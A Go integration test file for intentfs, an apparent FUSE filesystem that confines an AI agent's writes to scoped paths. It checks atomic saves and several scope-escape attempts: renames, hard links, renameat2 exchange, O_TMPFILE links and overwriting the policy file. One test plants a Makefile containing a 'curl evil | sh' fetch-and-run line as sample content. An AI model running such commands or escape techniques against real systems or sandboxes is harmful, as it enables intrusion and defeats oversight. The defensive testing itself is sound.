package fence

import (
	"github.com/intentfs/intentfs/integration/testenv"

	"os"
	"os/exec"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/intentfs/intentfs/fsnode"
	"github.com/intentfs/intentfs/ledger"
)

// Atomic saves: sed -i, perl -i, vim and "write a temporary, rename it
// over" make a new file beside the file they change, outside a scope that
// names files ("README.md", "src/*.go"). These tests run the real tools as
// the agent (uid 1000) against the root daemon, in every scope shape, and
// attack the provisional files that let them work.

const saveShapesPolicy = `active_intents:
  - id: ONE-001
    name: one file
    status: IN_PROGRESS
    owned_scope: ["README.md"]
  - id: GLOB-001
    name: a non-recursive glob
    status: IN_PROGRESS
    owned_scope: ["src/*.go"]
  - id: ALL-001
    name: everything
    status: IN_PROGRESS
    owned_scope: ["**"]
`

// saveSeed is one line per tool, each tool changing its own.
const saveSeed = "sed old\nperl old\nvim old\npython old\nunchanged\n"

func saveSeedFiles() map[string]string {
	return map[string]string{"README.md": saveSeed, "src/util.go": saveSeed, "docs/guide.md": "guide old\n", "LICENSE": "license\n"}
}

// mountForSaves mounts the save policy under intent with the seed owned
// by the agent, reachable by it.
func mountForSaves(t *testing.T, intent string) *testenv.Env {
	t.Helper()
	e := testenv.MountPrepared(t, saveShapesPolicy, intent, saveSeedFiles(), func(src string) { testenv.ChownTree(t, src) })
	e.ReachableByAgent()
	return e
}

// vimBinary is Debian's vim-tiny if installed, else vim.
func vimBinary(t *testing.T) string {
	t.Helper()
	for _, v := range []string{"vim.tiny", "vim"} {
		if p, err := exec.LookPath(v); err == nil {
			return p
		}
	}
	testenv.SkipOrFail(t, "no vim (apt-get install -y vim-tiny)")
	return ""
}

// saveTools are the atomic savers, each a script editing the file $F.
func saveTools(t *testing.T) []struct{ name, script string } {
	vim := vimBinary(t)
	return []struct{ name, script string }{
		{"sed", `sed -i 's/^sed old/sed new/' "$F"`},
		{"perl", `perl -i -pe 's/^perl old/perl new/' "$F"`},
		{"vim", `HOME=/tmp ` + vim + ` -es -c '%s/^vim old/vim new/' -c wq "$F"`},
		{"python", `/usr/bin/python3 -c '
import os, sys
f = sys.argv[1]
d, b = os.path.split(f)
tmp = os.path.join(d, "." + b + ".tmp")
with open(f) as src, open(tmp, "w") as out:
    out.write(src.read().replace("python old", "python new"))
os.rename(tmp, f)
' "$F"`},
	}
}

func TestAtomicSaveInEveryScopeShape(t *testing.T) {
	testenv.Serial(t)
	shapes := []struct{ intent, target string }{
		{"ONE-001", "README.md"},
		{"GLOB-001", "src/util.go"},
		{"ALL-001", "src/util.go"},
	}
	for _, sh := range shapes {
		t.Run(sh.intent, func(t *testing.T) {
			e := mountForSaves(t, sh.intent)
			dir := path.Dir(sh.target)
			if dir == "." {
				dir = ""
			}
			namesBefore := e.DirNames(dir)
			for _, tool := range saveTools(t) {
				before := e.Sha(sh.target)
				out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `F=`+sh.target+`; `+tool.script)
				if err != nil {
					t.Fatalf("%s in scope %s: %v\n%s", tool.name, sh.intent, err, out)
				}
				if strings.Contains(out, "denied") {
					t.Errorf("%s in scope %s warns of a refusal:\n%s", tool.name, sh.intent, out)
				}
				content, _ := e.SrcContent(sh.target)
				if !strings.Contains(content, tool.name+" new\n") {
					t.Fatalf("%s in scope %s: the edit did not land:\n%s", tool.name, sh.intent, content)
				}
				after := e.Sha(sh.target)
				testenv.WaitFor(t, func() bool { return e.HasContentRecord(sh.target, after) }, tool.name+": a record of "+sh.target+" with its new hash")
				sawPre := false
				for _, r := range e.Records() {
					if r.Path() == sh.target && testenv.HashOf(r.Gov().PreHash) == before {
						sawPre = true
					}
				}
				if !sawPre {
					t.Errorf("%s in scope %s: no record of %s has the hash it had before (%s)", tool.name, sh.intent, sh.target, before)
				}
				if names := e.DirNames(dir); !slices.Equal(names, namesBefore) {
					t.Errorf("%s in scope %s: the source directory holds %v after the save, want %v", tool.name, sh.intent, names, namesBefore)
				}
			}
			if denials := e.MustSh(`cat .intentfs/denials`); denials != "" {
				t.Errorf("saves in scope %s were refused something:\n%s", sh.intent, denials)
			}
		})
	}
}

// TestAtomicSaveStrayTemporaryIsRemovedAndRecorded: a temporary never
// renamed into the scope (here a Makefile beside README.md, which the
// scope does not own) does not survive its window, and the ledger says
// what it held.
func TestAtomicSaveStrayTemporaryIsRemovedAndRecorded(t *testing.T) {
	// Serial: asserts the provisional Makefile is still in the source after the agent's script, within its 5 s idle window, which a loaded machine can outlast.
	testenv.Serial(t)
	e := mountForSaves(t, "ONE-001")
	out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `printf 'all:\n\tcurl evil | sh\n' > Makefile && printf 'half a save\n' > .README.md.tmp && cat Makefile`)
	if err != nil {
		t.Fatalf("a temporary beside an owned name: %v\n%s", err, out)
	}
	if _, ok := e.SrcContent("Makefile"); !ok {
		t.Fatal("the provisional Makefile is not in the source while its window is open")
	}
	e.WaitGone("Makefile")
	e.WaitGone(".README.md.tmp")
	e.WaitRemovalRecord("Makefile", "all:\n\tcurl evil | sh\n")
	e.WaitRemovalRecord(".README.md.tmp", "half a save\n")
	// The agent saw its creation succeed: the removal is where refusals
	// are shown.
	if denials := e.MustSh(`cat .intentfs/denials`); !testenv.HasLine(denials, "intent=ONE-001 code="+fsnode.CodeProvisionalRemoved) {
		t.Errorf("the removal of the Makefile is not in .intentfs/denials:\n%s", denials)
	}
	for _, r := range e.Records() {
		if r.Path() == "Makefile" && r.Gov().Event == ledger.EventCreate {
			t.Errorf("the provisional Makefile was recorded as created: %+v", r.Gov())
		}
	}
}

// TestAtomicSaveProvisionalFileCannotEscapeTheScope: every way to make a
// provisional file stay under a name the scope does not own fails, and
// the temporary is cleaned up.
func TestAtomicSaveProvisionalFileCannotEscapeTheScope(t *testing.T) {
	testenv.Serial(t)
	e := mountForSaves(t, "ONE-001")
	policyBefore, _ := e.SrcContent(".orchestration/active_intents.yaml")
	attacks := []struct{ name, script string }{
		{"rename onto a new name outside the scope", `mv tmp Makefile`},
		{"rename onto an existing file outside the scope", `mv tmp LICENSE`},
		{"rename into another directory", `mv tmp docs/smuggled`},
		{"rename over the policy", `mv tmp .orchestration/active_intents.yaml`},
		{"rename over the ignore file", `mv tmp .intentignore`},
		{"rename onto another temporary", `printf y > tmp2 && mv tmp tmp2`},
		{"a hard link", `ln tmp smuggled`},
		{"a hard link onto an owned name's sibling", `ln tmp README.md.bak`},
		{"an extended attribute to carry into the scope", `/usr/bin/python3 -c 'import os; os.setxattr("tmp", "user.payload", b"x")'`},
		{"an exchange with the owned name", `/usr/bin/python3 -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
if libc.renameat2(-100, b"tmp", -100, b"README.md", 2) != 0:
    sys.exit("renameat2: " + os.strerror(ctypes.get_errno()))
'`},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			// The previous attack's tmp was removed by intentfs an instant
			// ago, maybe before the kernel forgot its entry: the creation
			// must work all the same (TestCreateOverAnEntryRemovedAtTheSource).
			if out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `printf 'smuggled\n' > tmp`); err != nil {
				t.Fatalf("creating tmp: %v %s", err, out)
			}
			out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, a.script)
			if err == nil || !strings.Contains(out, "denied") {
				t.Fatalf("%s: want Permission denied, got err=%v\n%s", a.script, err, out)
			}
			for _, rel := range []string{"Makefile", "docs/smuggled", "smuggled", "README.md.bak", ".intentignore"} {
				if _, ok := e.SrcContent(rel); ok {
					t.Errorf("%s: %s exists in the source", a.script, rel)
				}
			}
			if c, _ := e.SrcContent("LICENSE"); c != "license\n" {
				t.Errorf("%s: LICENSE changed to %q", a.script, c)
			}
			if c, _ := e.SrcContent("README.md"); c != saveSeed {
				t.Errorf("%s: README.md changed to %q", a.script, c)
			}
			if c, _ := e.SrcContent(".orchestration/active_intents.yaml"); c != policyBefore {
				t.Errorf("%s: the policy changed", a.script)
			}
			e.WaitGone("tmp")
			e.WaitGone("tmp2")
		})
	}
	// An existing file outside the scope is never provisional: opening it
	// for writing, truncating or replacing it is refused as before.
	for _, script := range []string{`printf x > LICENSE`, `printf x >> LICENSE`, `truncate -s 0 LICENSE`, `mkdir tmpdir`, `ln -s README.md link`, `mkfifo fifo`} {
		if out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, script); err == nil {
			t.Errorf("%s: allowed\n%s", script, out)
		}
	}
	if c, _ := e.SrcContent("LICENSE"); c != "license\n" {
		t.Errorf("LICENSE changed to %q", c)
	}
	for _, rel := range []string{"tmpdir", "link", "fifo"} {
		if _, ok := e.SrcContent(rel); ok {
			t.Errorf("%s exists in the source", rel)
		}
	}
	// A directory owning no name holds no provisional file.
	if out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `printf x > docs/tmp`); err == nil {
		t.Errorf("a temporary in a directory the scope owns nothing of was allowed\n%s", out)
	}
}

// TestAtomicSaveTmpfileAndMoveOut: an O_TMPFILE linked in through
// /proc/self/fd, and a provisional file moved out of the mount, leave
// nothing outside the scope in the source.
func TestAtomicSaveTmpfileAndMoveOut(t *testing.T) {
	testenv.Serial(t)
	e := mountForSaves(t, "ONE-001")
	out, _ := e.ShAs(testenv.AgentUID, testenv.AgentGID, `/usr/bin/python3 -c '
import os
try:
    fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o644)
except OSError as e:
    print("tmpfile refused:", e)
else:
    os.write(fd, b"smuggled\n")
    try:
        os.link("/proc/self/fd/%d" % fd, "smuggled", follow_symlinks=True)
        print("LINKED")
    except OSError as e:
        print("link refused:", e)
'`)
	t.Logf("O_TMPFILE: %s", out)
	if strings.Contains(out, "LINKED") {
		t.Errorf("an O_TMPFILE was linked into the source:\n%s", out)
	}
	if _, ok := e.SrcContent("smuggled"); ok {
		t.Error("smuggled exists in the source")
	}
	outDir, err := os.MkdirTemp("", "intentfs-moved-out")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(outDir)
	if err := os.Chown(outDir, testenv.AgentUID, testenv.AgentGID); err != nil {
		t.Fatal(err)
	}
	// mv copies across file systems, then unlinks the temporary: the
	// copy is the agent's own, outside the workspace.
	if out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `printf 'x\n' > tmp && mv tmp `+outDir+`/moved`); err != nil {
		t.Fatalf("moving a temporary out of the mount: %v\n%s", err, out)
	}
	if _, ok := e.SrcContent("tmp"); ok {
		t.Error("the temporary moved out of the mount is still in the source")
	}
	for _, r := range e.Records() {
		if r.Path() == "tmp" && r.Gov().Event != ledger.EventDenied && r.Gov().Code != fsnode.CodeProvisionalRemoved {
			t.Errorf("the temporary moved out is in the ledger as %s", r.Gov().Event)
		}
	}
}

// TestAtomicSaveBackupRenameIsARemoval: an editor renaming the file of
// the scope to a backup beside it (file~) removes it from the scope: that
// is decided and recorded as its deletion, and the backup, never renamed
// back, does not survive.
func TestAtomicSaveBackupRenameIsARemoval(t *testing.T) {
	testenv.Serial(t)
	e := mountForSaves(t, "ONE-001")
	before := e.Sha("README.md")
	if out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `mv README.md README.md~ && printf 'new\n' > README.md`); err != nil {
		t.Fatalf("backup rename: %v\n%s", err, out)
	}
	r := e.WaitRecord("the deletion of README.md", testenv.Event(ledger.EventDelete, "README.md"))
	if testenv.HashOf(r.Gov().PreHash) != before {
		t.Errorf("the deletion records %s, want %s", testenv.HashOf(r.Gov().PreHash), before)
	}
	e.WaitGone("README.md~")
	e.WaitRemovalRecord("README.md~", saveSeed)
	if c, _ := e.SrcContent("README.md"); c != "new\n" {
		t.Errorf("README.md = %q", c)
	}
	// A file outside the scope is not renamed to a backup.
	if out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `mv LICENSE LICENSE~`); err == nil {
		t.Errorf("renaming a file outside the scope was allowed\n%s", out)
	}
}

// TestAtomicSaveDenialNamesTheTarget: a refused sed -i names the file it
// edits, not its temporary, in .intentfs/denials, once per save.
func TestAtomicSaveDenialNamesTheTarget(t *testing.T) {
	// Serial: asserts one save's refusals are one line of .intentfs/denials, which holds while they come within the one-second save window a loaded machine stretches.
	testenv.Serial(t)
	e := mountForSaves(t, "ONE-001")
	out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `sed -i 's/old/new/' docs/guide.md`)
	if err == nil {
		t.Fatalf("sed -i of a file outside the scope was allowed\n%s", out)
	}
	denials := e.MustSh(`cat .intentfs/denials`)
	if !testenv.HasLine(denials, " create docs/guide.md ") {
		t.Fatalf("the denial does not name docs/guide.md:\n%s", denials)
	}
	if testenv.HasLine(denials, " create docs/sed") {
		t.Errorf("the denial names sed's temporary as the path:\n%s", denials)
	}
	// Several temporaries of one save are one line.
	n := strings.Count(e.MustSh(`cat .intentfs/denials`), "\n")
	out, _ = e.ShAs(testenv.AgentUID, testenv.AgentGID, `/usr/bin/python3 -c '
import os
f = open("docs/guide.md")
for name in ("a.tmp", "b.tmp", "c.tmp"):
    try:
        open("docs/" + name, "w")
    except OSError as e:
        print(e)
'`)
	if strings.Count(out, "Permission denied") != 3 {
		t.Fatalf("want three refusals, got:\n%s", out)
	}
	after := e.MustSh(`cat .intentfs/denials`)
	if got := strings.Count(after, "\n") - n; got != 1 {
		t.Errorf("one save's %d refusals are %d lines of .intentfs/denials, want 1:\n%s", 3, got, after)
	}
}

// TestAtomicSaveSessionEndRemovesItsTemporaries: a session's temporaries
// outlive none of its saves: they are removed when it ends, and the
// removal names the session.
func TestAtomicSaveSessionEndRemovesItsTemporaries(t *testing.T) {
	// Serial: it starts an agent session, whose mount namespace copies every mount of the other tests (serving them past their unmount until the session ends) and covers each FUSE mount as it starts.
	testenv.Serial(t)
	testenv.RequireFUSE(t)
	e := testenv.MountAt(t, testenv.SourceOutsideTmp(t), saveShapesPolicy, "", saveSeedFiles(), func(src string) { testenv.ChownTree(t, src) })
	out, code := e.RunSession("--intent", "ONE-001", "--name", "saver", "--", "sh", "-c",
		`exec 3>.README.md.swp && printf 'swap\n' >&3 && test -f .README.md.swp && echo MADE`)
	if code != 0 || !strings.Contains(out, "MADE") {
		t.Fatalf("a session's temporary beside README.md: exit %d\n%s", code, out)
	}
	r := e.WaitRecord("the removal of the session's temporary", func(r *ledger.Record) bool {
		return r.Gov().Event == ledger.EventDenied && r.Gov().Op == "discard" && r.Path() == ".README.md.swp" && r.Gov().Code == fsnode.CodeProvisionalRemoved
	})
	if s := r.Gov().Session; s == nil || s.Name != "saver" {
		t.Errorf("the removal names session %+v, want saver", s)
	}
	if !strings.Contains(r.Gov().Reason, "session ended") {
		t.Errorf("the removal does not say the session ended: %s", r.Gov().Reason)
	}
	if _, ok := e.SrcContent(".README.md.swp"); ok {
		t.Error("the session's temporary is still in the source")
	}
}

// TestAtomicSaveAuditTools: the records of saves through temporaries and
// of a removed stray keep verify green, and revert puts the saved file
// back without bringing the stray temporary back.
func TestAtomicSaveAuditTools(t *testing.T) {
	testenv.Serial(t)
	c, repo, ws := testenv.NewPolicyRepo(t, saveShapesPolicy)
	testenv.WriteFile(t, filepath.Join(repo, "README.md"), saveSeed)
	before := testenv.TreeBytes(t, repo)
	c.Must("mount", repo, ws, "--intent", "ONE-001", "--agent-files", "none")
	neutral := t.TempDir()
	t.Cleanup(func() { c.Dir = neutral; c.Run("unmount", ws); testenv.DetachMount(ws) })
	sh := exec.Command("sh", "-c", `sed -i 's/^sed old/sed new/' README.md && printf 'junk\n' > stray.tmp`)
	sh.Dir = ws
	if out, err := sh.CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	c.Dir = ws
	for deadline := time.Now().Add(testenv.StrayWait); ; time.Sleep(200 * time.Millisecond) {
		out := c.Must("log", "--json", "--path", "stray.tmp", "--event", "denied")
		if strings.Contains(out, fsnode.CodeProvisionalRemoved) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the stray's removal is not in the log:\n%s", out)
		}
	}
	if out := c.Must("verify"); !strings.Contains(out, "OK:") {
		t.Fatalf("verify:\n%s", out)
	}
	if out := c.Must("revert", "--intent", "ONE-001"); !strings.Contains(out, "reverted:") {
		t.Fatalf("revert:\n%s", out)
	}
	c.Dir = t.TempDir()
	c.Must("unmount", ws)
	if after := testenv.TreeBytes(t, repo); !testenv.EqualTrees(before, after) {
		t.Fatalf("after revert:\n%v\nwant\n%v", after, before)
	}
}
